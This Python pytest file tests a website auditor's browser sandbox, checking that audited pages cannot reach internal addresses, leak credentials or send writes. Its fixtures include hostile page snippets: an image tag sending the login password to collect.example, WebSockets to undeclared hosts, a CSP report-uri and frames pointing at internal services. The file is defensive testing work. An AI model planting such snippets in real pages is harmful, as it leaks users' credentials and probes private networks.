"""What a page may not do: ask the auditor's own network, carry what was typed elsewhere, work out of sight."""

from __future__ import annotations

import asyncio
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.async_api import Error as PlaywrightError

from auditor.capture import Browser
from auditor.capture.base.scope import scope_of
from auditor.capture.browser.page import CdpPage
from auditor.model.targets.deployments import Condition
from tests.capture.misbehaving_site import HEAD, Handler, Site, registration, serving
from tests.capture.visit_helpers import LOGIN, REGISTRATION, deployment, page, visit


def test_a_frame_and_a_picture_of_an_internal_address_are_refused_and_recorded(
    runner: asyncio.Runner, browser: Browser, site: Site, tmp_path: Path
) -> None:
    with serving() as inside:
        asked: list[str] = []

        def tell(handler: Handler) -> None:
            asked.append(handler.path)
            handler.answer("internal 4711")

        inside.acts.update({"/secret": tell, "/pixel.png": tell})
        other = f"http://localhost:{inside.server_port}"
        extra = f"<iframe src={other}/secret></iframe><img src={other}/pixel.png>"
        site.pages["/page"] = registration("34", extra=extra)
        capture, stage = runner.run(visit(browser, deployment(site.url), [page("/page")], tmp_path))
    assert capture.state == "complete" and asked == []
    assert any("internal address" in warning for warning in capture.warnings)
    assert all(b"4711" not in data for data in stage.disclosable().values())


@pytest.mark.parametrize(
    ("name", "value", "other_port"),
    [
        ("Document_Isolation_Policy", "isolate-and-credentialless", False),
        ("Document_Isolation_Policy", "isolate-and-require-corp", False),
        ("Origin_Agent_Cluster", "?1", True),
    ],
)
def test_a_frame_that_asks_for_a_process_of_its_own_writes_nothing(
    name: str, value: str, other_port: bool, runner: asyncio.Runner, browser: Browser, site: Site, tmp_path: Path
) -> None:
    """It stays under the page's record and guard, and in its snapshot, when it comes and when it comes back."""
    posts = "const w = (n) => fetch('/w/' + n, {method: 'POST'}); for (let n = 0; n < 5; n++) w(n); setTimeout(w, 400)"
    leaves = "if (!location.search) setTimeout(() => location = '/plain?', 600)"
    inner = HEAD + f"<body>框内七十七<script>{posts}; {leaves}</script>"
    with serving() as beside:
        framed = beside if other_port else site
        framed.acts["/inner"] = lambda handler: handler.answer(inner, **{name: value})  # type: ignore[arg-type]
        framed.pages["/plain"] = HEAD + f"<body>框内七十八<script>{posts}</script>"
        again = "<script>setTimeout(() => { f.src = f.src + '?again' }, 900)</script>"
        site.pages["/page"] = registration(
            "34", extra=f"<iframe id=f src='{framed.url}inner' width=600></iframe>{again}"
        )
        where = deployment(site.url, origins=(beside.url,))
        capture, stage = runner.run(visit(browser, where, [page("/page")], tmp_path))
        wrote = [path for server in (site, beside) for _, path, _ in server.seen if path.startswith("/w/")]
    assert capture.views[0].outcome == "observed", capture.views
    assert wrote == []
    assert any("/w/" in warning or "POST" in warning for warning in capture.warnings), capture.warnings
    assert "框内七十" in stage.read("registration/dom-frame-1.html").decode()


def test_a_shared_worker_sends_nothing(runner: asyncio.Runner, browser: Browser, site: Site, tmp_path: Path) -> None:
    asked: list[str] = []

    def write(handler: Handler) -> None:
        asked.append(handler.command)
        handler.answer("ok")

    site.acts["/write"] = write
    site.acts["/worker.js"] = lambda handler: handler.answer(
        "fetch('/write', {method: 'POST', body: 'x'})", kind="text/javascript"
    )
    site.pages["/page"] = registration("34", extra="<script>new SharedWorker('/worker.js')</script>")
    capture, _ = runner.run(visit(browser, deployment(site.url), [page("/page")], tmp_path))
    assert capture.state == "complete" and asked == []


def test_a_typed_value_reaches_no_undeclared_origin_after_login(
    runner: asyncio.Runner, browser: Browser, tmp_path: Path
) -> None:
    with serving() as site:
        site.password = "p@ss w&rd/中文99"
        sent = quote(site.password, safe="")
        site.acts["/reg"] = lambda handler: handler.answer(
            registration("34", extra=f"<p>退出登录</p><img src='http://collect.example/?p={sent}'>")
        )
        environment = {"SITE_USER": "auditor", "SITE_PASSWORD": site.password}
        where = deployment(site.url, login=LOGIN)
        capture, _ = runner.run(visit(browser, where, [REGISTRATION], tmp_path, environment=environment))
    assert capture.state == "complete", capture.views
    assert any("credentials towards http://collect.example:80" in warning for warning in capture.warnings)


def javascript(text: str) -> Callable[[Handler], None]:
    return lambda handler: handler.answer(text, kind="text/javascript")


def test_websockets_reach_declared_origins_alone_wherever_they_are_opened(
    runner: asyncio.Runner, browser: Browser, site: Site, tmp_path: Path
) -> None:
    """Of the page, of a frame without an address, of a worker and of a worker's worker."""
    hosts = f"['127.0.0.1:{site.server_port}', 'collect.example:81']"
    opens = "for (const host of " + hosts + ") new WebSocket('ws://' + host + '/%s')"
    site.acts["/worker.js"] = javascript(opens % "of-worker" + "\nnew Worker('/nested.js')")
    site.acts["/nested.js"] = javascript("new WebSocket('ws://nested.example/')")
    frame = "<iframe srcdoc=\"<script>new WebSocket('ws://framed.example/')</script>\"></iframe>"
    script = f"<script>{opens % 'of-page'}\nnew Worker('/worker.js')</script>"
    site.pages["/page"] = registration("34", extra=frame + script)
    capture, _ = runner.run(visit(browser, deployment(site.url), [page("/page")], tmp_path))
    assert capture.state == "complete", capture.views
    assert {"/of-page", "/of-worker"} <= {path for _, path, _ in site.seen}
    refused = " ".join(capture.warnings)
    for host in ("collect.example:81", "nested.example:80", "framed.example:80"):
        assert f"{host}, which" in refused, refused


def test_workers_are_told_and_write_nothing(
    runner: asyncio.Runner, browser: Browser, site: Site, tmp_path: Path
) -> None:
    asks = "const all = [fetch('/api/reg?%s'), fetch('/write?%s', {method: 'POST', body: 'x'}).catch(() => 0)]\n"
    nested = asks % ("nested", "nested") + "Promise.all(all).then(() => postMessage('34'))"
    outer = asks % ("worker", "worker") + "new Worker('/nested.js').onmessage = told => postMessage(told.data)"
    site.acts["/worker.js"], site.acts["/nested.js"] = javascript(outer), javascript(nested)
    shows = "new Worker('/worker.js').onmessage = told => document.getElementById('used').textContent = told.data"
    site.pages["/page"] = registration("加载中…", extra=f"<script>{shows}</script>")
    waits = replace(page("/page"), ready=Condition(text="34"))
    capture, stage = runner.run(visit(browser, deployment(site.url), [waits], tmp_path))
    assert capture.state == "complete"
    addresses = {address for _, address, _, _ in stage.records()}
    assert site.url + "worker.js" in addresses, addresses
    for script in ("worker.js", "nested.js"):
        started = f"worker started: {site.url}{script}; what it asked for at once may be missing from the record"
        assert started in capture.warnings, capture.warnings
    assert not [path for method, path, _ in site.seen if method == "POST"]


def test_a_service_worker_is_told_and_held(
    runner: asyncio.Runner, browser: Browser, site: Site, tmp_path: Path
) -> None:
    site.acts["/service.js"] = javascript("setTimeout(() => fetch('/write', {method: 'POST', body: 'x'}), 150)")
    registers = "<script>navigator.serviceWorker.register('/service.js')</script>"
    site.pages["/page"] = registration("34", extra=registers)
    site.pages["/next"] = registration("34")
    where, pages = deployment(site.url), [page("/page"), page("/next", "next")]
    capture, _ = runner.run(visit(browser, where, pages, tmp_path))
    assert any("service worker started" in warning for warning in capture.warnings)
    assert not [path for method, path, _ in site.seen if method == "POST"]
    assert any("POST /write: only reading" in warning for warning in capture.warnings)


@pytest.mark.parametrize(
    "markup",
    [
        "<iframe src='{}'></iframe>",
        "<object type='text/html' data='{}'></object>",
        "<embed type='text/html' src='{}'>",
        "<iframe srcdoc=\"<iframe src='{}'></iframe>\"></iframe>",
    ],
)
def test_a_document_of_an_undeclared_origin_is_not_shown(
    runner: asyncio.Runner, mapped: Browser, site: Site, tmp_path: Path, markup: str
) -> None:
    """Its numbers would be read as the deployment's own."""
    with serving() as other:
        other.pages["/foreign"] = registration("4711")
        address = f"http://inside.example:{other.server_port}/foreign"
        site.pages["/page"] = registration("34", extra=markup.format(address))
        capture, stage = runner.run(visit(mapped, deployment(site.url), [page("/page")], tmp_path))
        assert other.seen == []
    assert capture.state == "complete"
    assert any("frame of http://inside.example" in warning for warning in capture.warnings), capture.warnings
    assert all(b"4711" not in data for path, data in stage.disclosable().items() if path.endswith(".html"))


def test_an_internal_address_behind_a_public_name_ends_the_visit_and_is_not_kept(
    runner: asyncio.Runner, mapped: Browser, site: Site, tmp_path: Path
) -> None:
    with serving() as inside:
        inside.acts["/style.css"] = lambda handler: handler.answer("body::after{content:'4711'}", kind="text/css")
        link = f"<link rel=stylesheet href='http://inside.example:{inside.server_port}/style.css'>"
        site.pages["/page"] = registration("34", extra=link)
        capture, stage = runner.run(visit(mapped, deployment(site.url), [page("/page")], tmp_path))
    assert capture.views[0].outcome == "out_of_scope" and "inside.example" in capture.views[0].why
    assert all(b"4711" not in content for _, _, content, _ in stage.records())
    assert all(b"4711" not in data for data in stage.disclosable().values())


def test_a_host_with_a_chinese_name_is_visited(
    runner: asyncio.Runner, mapped: Browser, site: Site, tmp_path: Path
) -> None:
    site.pages["/page"] = registration("34")
    where = deployment(f"http://例子.测试:{site.server_port}/")
    capture, _ = runner.run(visit(mapped, where, [page("/page")], tmp_path))
    assert capture.state == "complete", capture.views[0].why
    assert capture.facts["address"] == f"127.0.0.1:{site.server_port}"


def test_a_port_that_browsers_refuse_is_no_server_that_is_missing(
    runner: asyncio.Runner, browser: Browser, tmp_path: Path
) -> None:
    capture, _ = runner.run(visit(browser, deployment("http://127.0.0.1:6000/"), [page("/page")], tmp_path))
    assert capture.views[0].outcome == "error" and "refuses the port" in capture.views[0].why


def test_reports_of_a_content_policy_go_nowhere(
    runner: asyncio.Runner, browser: Browser, site: Site, tmp_path: Path
) -> None:
    policy = "img-src 'self'; report-uri http://collect.example/report"
    body = registration("34", extra="<img src='http://other.example/x.png'>")
    site.acts["/page"] = lambda handler: handler.answer(body, Content_Security_Policy=policy)
    capture, _ = runner.run(visit(browser, deployment(site.url), [page("/page")], tmp_path))
    assert capture.state == "complete"
    assert any("POST to http://collect.example:80" in warning for warning in capture.warnings)


def test_only_the_deployments_own_document_asks_to_be_left_alone(
    runner: asyncio.Runner, browser: Browser, site: Site, tmp_path: Path
) -> None:
    def busy(handler: Handler) -> None:
        handler.answer("busy", status=429, Retry_After="86400", Server="other")

    with serving() as other:
        other.acts["/busy"] = site.acts["/busy"] = busy
        frames = f"<iframe src='{other.url}busy'></iframe><iframe src=/busy></iframe>"
        site.pages["/page"] = registration("34", extra=frames)
        where = deployment(site.url, origins=(other.url,))
        framed, _ = runner.run(visit(browser, where, [page("/page")], tmp_path / "framed"))
        own, _ = runner.run(visit(browser, where, [page("/busy")], tmp_path / "own"))
    assert framed.state == "complete" and "retry_after" not in framed.facts
    assert own.facts["retry_after"] == "86400"


def test_a_page_that_cannot_be_guarded_is_typed_nothing(runner: asyncio.Runner, browser: Browser, site: Site) -> None:
    where = scope_of(deployment(site.url))

    async def act() -> None:
        async with browser.blank(ignore_https_errors=False) as blank:
            page = await CdpPage.open(blank, where)
            await blank.page.close()
            with pytest.raises(PlaywrightError):
                await page.guard.enter("login", (b"typed",))

    runner.run(act())


WRITE = "const w = (how, more) => fetch('/w/' + how, {method: 'POST', body: 'x', ...more}).catch(() => 0);"
AS_IT_GOES = {
    "all the time": f"{WRITE} setInterval(() => {{ w('now'); navigator.sendBeacon('/w/beacon', 'x') }}, 5)",
    "as it is left": f"{WRITE} for (const left of ['pagehide', 'unload', 'visibilitychange'])"
    " addEventListener(left, () => w(left, {keepalive: true}))",
    "once it is gone": "fetchLater('/w/later', {method: 'POST', body: 'x'})",
}


@pytest.mark.parametrize("when", AS_IT_GOES)
def test_a_page_that_is_ended_writes_nothing_as_it_goes(
    runner: asyncio.Runner, browser: Browser, site: Site, when: str
) -> None:
    site.pages["/page"] = registration("34", extra=f"<script>{AS_IT_GOES[when]}</script>")

    async def act() -> None:
        async with browser.blank(ignore_https_errors=False) as blank:
            page = await CdpPage.open(blank, scope_of(deployment(site.url)))
            await page.navigate(site.url + "page", 5)
            await page.loaded(5)
            await page.end()
            await asyncio.sleep(0.5)
        await asyncio.sleep(0.5)

    runner.run(act())
    assert not [path for method, path, _ in site.seen if method == "POST"]


OPENS_NO_TAB = 156
"""Chromium from this version on opens none by itself; 150 does."""


def test_a_tab_that_a_page_opens_by_a_click_of_its_own_asks_for_nothing(
    runner: asyncio.Runner, browser: Browser, site: Site, tmp_path: Path
) -> None:
    click = "a.dispatchEvent(new MouseEvent('click', {ctrlKey: true, bubbles: true}))"
    writes = "<script>for (let n = 0; n < 20; n++) fetch('/w/' + n, {method: 'POST', keepalive: true})</script>"
    site.pages["/tab"] = HEAD + "<body>" + writes
    site.pages["/page"] = registration("34", extra=f"<a id=a href=/tab>分馆</a><script>{click}; {click}</script>")
    for number in range(3):
        capture, _ = runner.run(visit(browser, deployment(site.url), [page("/page")], tmp_path / str(number)))
        assert capture.state == "complete", capture.views
        told = any("pop-up closed" in warning for warning in capture.warnings)
        assert told or int(browser.version.partition(".")[0]) >= OPENS_NO_TAB, capture.warnings
    assert {path for _, path, _ in site.seen} == {"/page"}
